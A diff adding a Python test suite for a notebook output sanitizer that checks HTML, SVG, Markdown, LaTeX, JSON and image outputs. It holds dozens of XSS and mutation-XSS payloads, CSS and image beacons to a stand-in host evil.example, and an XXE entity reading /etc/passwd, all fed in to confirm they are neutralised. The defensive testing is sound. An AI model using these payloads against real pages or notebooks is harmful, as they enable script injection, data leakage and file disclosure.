@@ -1,0 +1,436 @@
+"""What a hostile program displays shows nothing executable; what an honest one displays still looks right."""
+
+import base64
+import io
+import json
+import math
+import re
+from html.parser import HTMLParser
+from xml.etree import ElementTree
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from sandbox_kernel.notebook.sanitize import safe_text, sanitize_bundle
+from sandbox_kernel.notebook.untrusted.html import _ATTRIBUTES, _TAGS
+
+PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script\x00>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="x" OnError = "alert(1)">',
+    "<img/src=`x`onerror=alert(1)>",
+    "<img src='https://evil.example/track.png?secret'>",
+    "<img srcset='https://evil.example/x 2x'>",
+    "<body onload=alert(1)>",
+    "<div onmouseover='alert(1)' onclick=alert(2)>x</div>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href=' jav&#x09;ascript:alert(1)'>x</a>",
+    "<a href='&#106;&#97;&#118;&#97;script:alert(1)'>x</a>",
+    "<a href='\x01javascript:alert(1)'>x</a>",
+    "<a href='vbscript:x'>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<a href='/api/kernels'>x</a>",
+    "<a href='//evil.example'>x</a>",
+    "<a href='https://x' target='_self' ping='https://evil.example'>x</a>",
+    "<a href='#' data-commandlinker-command='terminal:create-new'>x</a>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
+    "<svg><use href='data:image/svg+xml;base64,AAAA#x'/></svg>",
+    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
+    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
+    "<math href='javascript:alert(1)'>x</math>",
+    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<object data='javascript:alert(1)'></object><embed src='x.swf'>",
+    "<div style=\"background:url('https://evil.example/x')\">x</div>",
+    "<div style='background-image:url(javascript:alert(1))'>x</div>",
+    "<div style='width:expression(alert(1))'>x</div>",
+    "<div style='color:red;position:fixed;top:0;left:0;z-index:9999'>x</div>",
+    "<div style='co\\6cor:red;background:\\75rl(x)'>x</div>",
+    "<div style='margin-top:-5000px'>x</div>",
+    "<div style='color:var(--x);content:attr(x)'>x</div>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<style>*{background:url(https://evil.example)}</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href='https://evil.example/'>",
+    "<form action='https://evil.example'><input name=p type=password><button formaction=x>go</button></form>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)></textarea>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<isindex type=image src=1 onerror=alert(1)>",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<!--[if IE]><script>alert(1)</script><![endif]-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><?php alert(1) ?>",
+    "<div id='jp-main-dock-panel' class='jp-Dialog lm-Widget' name='x'>x</div>",
+    "<table background='https://evil.example/x'><td background='javascript:alert(1)'>x",
+    "<portal src='https://evil.example'><frameset onload=alert(1)>",
+    "<b <script>alert(1)</script>>x</b>",
+    "<a href=\"https://ok.example/\nonclick=alert(1)\">x</a>",
+]  # fmt: skip
+
+DANGER = re.compile(
+    r"<script|<iframe|<object|<embed|<form|<input|<meta|<base|<link|<svg|<math|<style|javascript:|vbscript:|srcdoc|"
+    r"expression\(|url\(|@import|position|commandlinker|https?://evil",
+    re.IGNORECASE,
+)
+
+
+class Audit(HTMLParser):
+    """An independent reading of the result: every tag and attribute must be on the list."""
+
+    def __init__(self):
+        super().__init__()
+        self.tags = []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append(tag)
+        assert tag in _TAGS, tag
+        for name, value in attrs:
+            assert not name.startswith("on"), name
+            assert name in _ATTRIBUTES["*"] | _ATTRIBUTES.get(tag, set()) | {"rel", "class"}, name
+            if name == "class":
+                assert value in ("dataframe", ""), value
+            if name in ("href", "src"):
+                assert value.startswith(("https://", "http://", "mailto:", "data:image/")), value
+
+
+def html(markup):
+    bundle = sanitize_bundle({"text/html": markup}, {})
+    return bundle.data.get("text/html", ""), bundle
+
+
+@pytest.mark.parametrize("markup", HOSTILE)
+def test_classic_attacks_in_html_become_inert(markup):
+    shown, bundle = html(markup)
+    Audit().feed(shown)
+    text_only = re.sub(r'title="[^"]*"', "", shown)
+    if not markup.startswith(("<![CDATA[", "<scr<", "<b <script")):  # there the words are left as escaped text
+        assert not DANGER.search(text_only), text_only
+    assert "text/html" in bundle.data
+
+
+@pytest.mark.parametrize("markup", HOSTILE)
+def test_the_same_attacks_named_as_svg_or_markdown_become_inert(markup):
+    svg = sanitize_bundle(
+        {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{markup}<path d='M0 0'/></svg>"}, {}
+    )
+    drawing = svg.data.get("image/svg+xml", "")
+    assert not re.search(
+        r"<script|\son\w+=|javascript:|https?://evil|<style|<iframe|<img|foreignObject|<a ", drawing, re.IGNORECASE
+    )
+    prose = sanitize_bundle({"text/markdown": f"# Title\n\n{markup}\n\n* item\n{markup}"}, {}).data.get(
+        "text/markdown", ""
+    )
+    assert not re.search(r"<[a-zA-Z/!?]", prose)
+
+
+@pytest.mark.parametrize(
+    "command", ["href{javascript:alert(1)}{x}", "class{jp-Dialog}{x}", "def\\frac{x}", "require{html}"]
+)
+def test_formulas_in_html_and_markdown_cannot_link_style_load_or_define(command):
+    for mime in ("text/html", "text/markdown"):
+        shown = sanitize_bundle({mime: f"a $\\{command}$ b"}, {}).data
+        assert f"\\{command}" not in str(shown)
+    assert html("<p>$\\reference \\hrefs \\frac{1}{2}$</p>")[0] == "<p>$\\reference \\hrefs \\frac{1}{2}$</p>"
+
+
+def test_unsafe_types_never_pass_and_are_named():
+    bundle = sanitize_bundle(
+        {
+            "application/javascript": "alert(1)",
+            "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
+            "application/vnd.plotly.v1+json": {},
+            "text/plain": "figure",
+            "APPLICATION/JAVASCRIPT ": "x",
+            3: "x",
+            "x" * 1000: "y",
+        },
+        {},
+    )
+    assert bundle.data == {"text/plain": "figure"}
+    assert "application/javascript: scripts are never shown" in bundle.removed
+    assert "application/vnd.plotly.v1+json: not a type that is shown" in bundle.removed
+    assert len(bundle.removed) == 6
+
+
+def test_a_bundle_that_loses_everything_says_so():
+    bundle = sanitize_bundle({"application/javascript": "alert(1)"}, {})
+    assert bundle.data == {"text/plain": "[output removed: application/javascript: scripts are never shown]"}
+
+
+def test_what_was_taken_out_of_html_is_said():
+    _, bundle = html("<b onclick=x>hi</b><script>1</script><iframe></iframe>")
+    assert bundle.removed == ("text/html: <iframe>", "text/html: <script>", "text/html: onclick")
+
+
+def test_a_pandas_table_looks_right_and_nothing_is_said():
+    import pandas
+
+    frame = pandas.DataFrame({"a": [1, 2], "<b>": ["x<y", "$5"]})
+    shown, bundle = html(frame._repr_html_())
+    assert bundle.removed == ()
+    assert '<table border="1" class="dataframe">' in shown
+    assert "<th>&lt;b&gt;</th>" in shown
+    assert '<tr style="text-align:right">' in shown
+    assert "<td>x&lt;y</td>" in shown
+    assert "only-of-type" not in shown
+
+
+def test_honest_html_keeps_its_look():
+    markup = (
+        '<h2>Title</h2><p style="color:#c00; padding:2px 4px; font-weight:bold">x <code>y</code> '
+        '<a href="https://example.org/?a=1&amp;b=2">link</a></p><ol start="3"><li>one</li></ol>'
+        f'<img src="data:image/png;base64,{PIXEL}" alt="dot" width="20"><progress value="3" max="9"></progress>'
+        '<td colspan="2" style="background-color:rgb(1, 2, 3)">cell</td> $\\frac{1}{2}$'
+    )
+    shown, bundle = html(markup)
+    assert bundle.removed == ()
+    assert 'style="color:#c00;padding:2px 4px;font-weight:bold"' in shown
+    assert 'href="https://example.org/?a=1&amp;b=2" rel="noopener noreferrer nofollow"' in shown
+    assert f'<img src="data:image/png;base64,{PIXEL}" alt="dot" width="20">' in shown
+    assert "$\\frac{1}{2}$" in shown
+
+
+def test_a_matplotlib_drawing_keeps_its_shapes_clips_and_references():
+    import matplotlib
+
+    matplotlib.use("Agg")
+    from matplotlib import pyplot
+
+    figure, axes = pyplot.subplots()
+    axes.plot([0, 1, 2], [0, 1, 4], "o-", label="squares")
+    axes.imshow([[0, 1], [2, 3]])
+    axes.legend()
+    file = io.StringIO()
+    figure.savefig(file, format="svg")
+    pyplot.close(figure)
+    source = file.getvalue()
+    bundle = sanitize_bundle({"image/svg+xml": source}, {})
+    drawing = bundle.data["image/svg+xml"]
+    assert bundle.removed == ()
+    root = ElementTree.fromstring(drawing)
+    names = [element.tag.rpartition("}")[2] for element in root.iter()]
+    for name in ("path", "use", "clipPath", "g", "image"):
+        assert names.count(name) == len(re.findall(rf"<{name}[\s>]", source)), name
+    used = {value for element in root.iter() for key, value in element.attrib.items() if key.endswith("href")}
+    assert any(value.startswith("#") for value in used)
+    assert any(value.startswith("data:image/png;base64,") for value in used)
+    assert 'viewBox="0 0' in drawing
+    assert 'clip-path="url(#' in drawing
+    assert 'stroke-linejoin="round"' in drawing
+    assert "metadata" not in names
+
+
+@pytest.mark.parametrize(
+    "inside",
+    [
+        "<script>alert(1)</script>",
+        "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></body></foreignObject>",
+        "<style>*{fill:url(https://evil.example)}</style>",
+        "<use href='https://evil.example/x.svg#y'/>",
+        "<use xlink:href='data:image/svg+xml;base64,PHN2Zy8+#x'/>",
+        "<image href='https://evil.example/x.png'/>",
+        "<image href='data:image/svg+xml;base64,PHN2Zy8+'/>",
+        "<a href='javascript:alert(1)'><text>x</text></a>",
+        "<set attributeName='href' to='javascript:alert(1)'/>",
+        "<animate attributeName='href' values='javascript:alert(1)'/>",
+        "<path d='M0 0' onclick='alert(1)' style='fill:url(https://evil.example#a)'/>",
+        "<path d='M0 0' fill='url(https://evil.example#a)'/>",
+        "<g filter='url(\"https://evil.example#a\")' mask='url(#ok) url(https://evil.example)'/>",
+        "<handler xmlns='http://www.w3.org/2001/xml-events'>alert(1)</handler>",
+        "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><text>&x;</text>",
+        "<title><img src=x onerror=alert(1)></title>",
+        "<desc><script>alert(1)</script></desc>",
+        "</svg><script>alert(1)</script><svg>",
+        "<g style='position:fixed;fill:red'/>",
+    ],
+)
+def test_attacks_inside_a_drawing_become_inert(inside):
+    spaces = "xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
+    source = f"<svg {spaces}>{inside}<path d='M1 1'/></svg>"
+    drawing = sanitize_bundle({"image/svg+xml": source}, {}).data.get("image/svg+xml")
+    if drawing is not None:
+        assert not re.search(r"script|evil|onclick|onerror|position|<a |<set|<animate|ENTITY|<style|svg\+xml;", drawing)
+        ElementTree.fromstring(drawing)
+
+
+def test_what_is_no_drawing_is_refused():
+    assert sanitize_bundle({"image/svg+xml": "<p>x</p>"}, {}).removed == ("image/svg+xml: there is no <svg> in it",)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[x](javascript:alert(1))",
+        "[x]( javascript:alert(1))",
+        "[x](\njavascript:alert(1))",
+        "[x](<javascript:alert(1)>)",
+        "[x](java&#115;cript:alert(1))",
+        "[x](java\\script:alert(1))",
+        "[x](data:text/html;base64,AAAA)",
+        "[x][1]\n\n[1]: javascript:alert(1)",
+        "> [1]: vbscript:x\n\n[1]",
+        "[x](/api/kernels)",
+        "![x](https://evil.example/track)",
+        "![x][1]\n\n[1]: https://evil.example/track",
+        "<javascript:alert(1)>",
+        "<img src=x onerror=alert(1)>",
+        "a <!-- b --> c <?php x ?>",
+        "```mermaid\ngraph TD; A-->B\n```",
+        "$\\href{javascript:alert(1)}{x}$",
+        "[x](j&Tab;avascript:alert(1))",
+        "[x](&amp;#106;avascript:alert(1))",
+    ],
+)
+def test_markdown_renders_to_nothing_that_acts(text):
+    import mistune
+
+    clean = sanitize_bundle({"text/markdown": text}, {}).data.get("text/markdown", "")
+    rendered = mistune.create_markdown(escape=False)(clean)
+    for address in re.findall(r'(?:href|src)="([^"]*)"', rendered):
+        assert address == "#" or address.startswith(("https://", "http://", "mailto:")), rendered
+    assert not re.search(r"<(?!/?(p|a|h1|ul|li|em|strong|code|pre|blockquote|br)\b)[a-zA-Z!?/]", rendered), rendered
+    assert "<img" not in rendered
+    assert "mermaid" not in rendered
+    assert "\\href" not in rendered
+
+
+def test_honest_markdown_is_unchanged():
+    text = (
+        "# Title\n\n**bold** `a < b` and 1 < 2, [docs](https://example.org/a_(b)?x=1)\n\n"
+        "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
+        f"```python\nx = 1\n```\n\n$$\\frac{{1}}{{2}}$$\n\n![dot](data:image/png;base64,{PIXEL})\n"
+    )
+    bundle = sanitize_bundle({"text/markdown": text}, {})
+    assert bundle.data == {"text/markdown": text}
+    assert bundle.removed == ()
+
+
+@pytest.mark.parametrize(
+    "command", ["href{javascript:alert(1)}{x}", "class{a}{b}", "def\\a{b}", "require{html}", "style{x}{y}"]
+)
+def test_latex_that_links_styles_or_defines_is_refused(command):
+    bundle = sanitize_bundle({"text/latex": f"$\\{command}$", "text/plain": "x"}, {})
+    assert bundle.data == {"text/plain": "x"}
+    assert "is not typeset" in bundle.removed[0]
+
+
+def test_honest_latex_passes():
+    text = "$\\displaystyle \\int_0^\\infty e^{-x^2}\\,dx = \\frac{1}{2} \\left[\\begin{matrix}1\\end{matrix}\\right]$"
+    assert sanitize_bundle({"text/latex": text}, {}).data == {"text/latex": text}
+
+
+def test_json_is_copied_and_bounded():
+    value = {"a": [1, 2.5, None, True, "x"], "b": {"c": []}}
+    assert sanitize_bundle({"application/json": value}, {}).data == {"application/json": value}
+    deep = []
+    for _ in range(100):
+        deep = [deep]
+    for bad, reason in (
+        (deep, "nested deeper"),
+        ([0] * 200_000, "more than 100000 values"),
+        (["x" * 600_000] * 2, "MB of text"),
+        ({"a": math.nan}, "no JSON"),
+        ({1: 2}, "key that is not text"),
+        ([b"x"], "a bytes"),
+        (1 << 5000, "1024 bits"),
+    ):
+        assert reason in sanitize_bundle({"application/json": bad}, {}).removed[0]
+
+
+def test_text_keeps_colours_only_and_its_length_is_bounded():
+    assert sanitize_bundle({"text/plain": "\x1b[31mx\x1b[0m\x1b]0;t\x07\ud800"}, {}).data == {
+        "text/plain": "\x1b[31mx\x1b[0m?"
+    }
+    assert safe_text("x" * 30, limit=10) == "xxxxxxxxxx\n[… 20 more characters are not shown]"
+
+
+def test_text_as_a_list_of_lines_is_joined():
+    assert sanitize_bundle({"text/plain": ["a\n", "b"]}, {}).data == {"text/plain": "a\nb"}
+    assert sanitize_bundle({"text/plain": ["a", 1]}, {}).removed == ("text/plain: it is list, not text",)
+
+
+def test_markup_that_would_take_a_parser_minutes_is_refused_at_once():
+    for unit in ("<h1><b>", "<b></p>", "<b>x</i>", "<a href=x><div>", "<table><b>", "<b/>"):
+        assert "nested deeper" in sanitize_bundle({"text/html": unit * 200_000}, {}).removed[0]
+    assert "nested deeper" in sanitize_bundle({"image/svg+xml": "<svg>" + "<g>" * 300_000}, {}).removed[0]
+    assert "larger than" in sanitize_bundle({"text/html": "x" * (5 << 20)}, {}).removed[0]
+
+
+def test_a_long_table_with_unclosed_rows_is_no_nesting():
+    shown, bundle = html("<table>" + "<tr><td>x<td>y" * 2000 + "</table><ul>" + "<li>z" * 2000)
+    assert bundle.removed == ()
+    assert shown.count("<td>") == 4000
+
+
+def test_metadata_keeps_the_size_of_pictures_only():
+    bundle = sanitize_bundle(
+        {"image/png": PIXEL, "text/html": "<b>x</b>"},
+        {
+            "image/png": {"width": 20, "height": -1, "needs_background": "light", "x": "<script>"},
+            "text/html": {"isolated": True},
+            "evil": 1,
+        },
+    )
+    assert bundle.metadata == {"image/png": {"width": 20, "needs_background": "light"}}
+
+
+WILD = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=40) | st.binary(max_size=9),
+    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=9) | st.integers(), inner, max_size=4),
+    max_leaves=12,
+)
+TYPES = st.sampled_from(
+    ["text/plain", "text/html", "text/markdown", "text/latex", "image/svg+xml", "image/png", "image/jpeg", "image/gif",
+     "image/webp", "application/json", "application/javascript", "x/y"]
+)  # fmt: skip
+
+
+@settings(max_examples=200)
+@given(st.dictionaries(TYPES | st.text(max_size=9), WILD, max_size=6) | WILD, WILD)
+def test_any_object_gives_a_bundle_that_can_be_sent(data, metadata):
+    bundle = sanitize_bundle(data, metadata)
+    json.dumps([dict(bundle.data), dict(bundle.metadata), bundle.removed], allow_nan=False).encode()
+    Audit().feed(str(bundle.data.get("text/html", "")))
+
+
+PIECES = st.sampled_from(
+    ["<script>", "</script>", "<img src=x ", "onerror=alert(1)", ">", "<svg>", "</svg>", "<math>", "<mtext>",
+     "<style>", "</style>", "<a href='", "javascript:", "'>", "<b>", "</b>", "<!--", "-->", "<table>", "<td>", "</p>",
+     "<p>", '"', "'", "<template>", "<title>", "</title>", "<textarea>", "<noscript>", "x", "&#106;", "\x00",
+     "<![CDATA[", "]]>"]
+)  # fmt: skip
+
+
+@settings(max_examples=400)
+@given(st.lists(PIECES, max_size=14))
+def test_any_soup_of_markup_becomes_inert(pieces):
+    shown, _ = html("".join(pieces))
+    Audit().feed(shown)
+    Audit().feed(html(shown)[0])
+
+
+@given(st.binary(max_size=60))
+def test_base64_of_anything_is_a_picture_or_refused(data):
+    encoded = base64.b64encode(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + data).decode()
+    for mime in ("image/png", "image/jpeg", "image/gif", "image/webp"):
+        sanitize_bundle({mime: encoded}, {})
